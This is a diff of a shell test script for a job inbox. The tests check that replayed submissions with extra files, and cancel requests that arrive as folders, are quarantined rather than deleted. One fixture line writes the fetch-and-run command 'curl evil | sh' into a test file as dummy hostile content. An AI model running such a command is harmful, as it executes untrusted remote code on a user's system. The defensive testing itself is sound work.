@@ -42,6 +42,10 @@ check "... and no quarantine" test "$(qn)" = "$q0"
 cp -a "$TEST_DIR/copy" "$INBOX/$U"; echo 'curl evil | sh' > "$INBOX/$U/code/zz.sh"
 do_ pending >/dev/null
 check "a replay with an added file is quarantined, not deleted" sh -c "grep -rq 'did not have' '$STORE/quarantine' && test -z \"\$(ls '$INBOX' | grep '$U')\""
+mkdir -p "$INBOX/$U.cancel.json/inner"; echo data > "$INBOX/$U.cancel.json/inner/f"
+do_ pending >/dev/null
+check "a cancel request that is a folder is quarantined, not deleted" sh -c "grep -rq 'not a plain file' '$STORE/quarantine' && test ! -e '$INBOX/$U.cancel.json'"
+check "... and cancels nothing" test -d "$STORE/jobs/pending/$U"
 
 # 2. an ingest error while a job runs under --watch
 running_job S slow 'sleep 3; echo SLOW-DONE'
